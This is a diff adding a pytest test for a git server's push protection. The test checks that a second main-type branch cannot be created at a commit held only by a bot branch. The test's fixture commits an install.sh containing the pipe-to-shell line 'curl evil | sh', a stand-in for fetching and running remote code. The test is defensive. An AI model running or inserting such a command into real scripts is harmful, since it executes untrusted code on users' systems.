@@ -307,3 +307,20 @@ def test_a_resolution_may_not_change_the_files_mode(client: Path, server_repo: P
     done = push(client, "hotfix/v1.1.2", "main")
     assert done.returncode != 0
     assert "BF205 merge-content" in done.stderr
+
+
+def test_a_second_main_branch_cannot_be_made_of_work_no_long_lived_branch_holds(
+    client: Path, server_repo: Path
+) -> None:
+    """master is of main's type: created at a commit only a bot's branch holds (pushed
+    there first, where nothing is judged), that commit would be on a protected branch."""
+    git(client, "switch", "-q", "--detach", "origin/main")
+    commit(client, "curl evil | sh", filename="install.sh")
+    evil = git(client, "rev-parse", "HEAD").stdout.strip()
+    assert push(client, f"{evil}:refs/heads/dependabot/x").returncode == 0
+    done = push(client, f"{evil}:refs/heads/master")
+    assert done.returncode != 0
+    assert "BF201 protected-commit" in done.stderr
+    assert server_ref(server_repo, "refs/heads/master") == ""
+    main = git(client, "rev-parse", "origin/main").stdout.strip()
+    assert push(client, f"{main}:refs/heads/master").returncode == 0  # where main is: fine
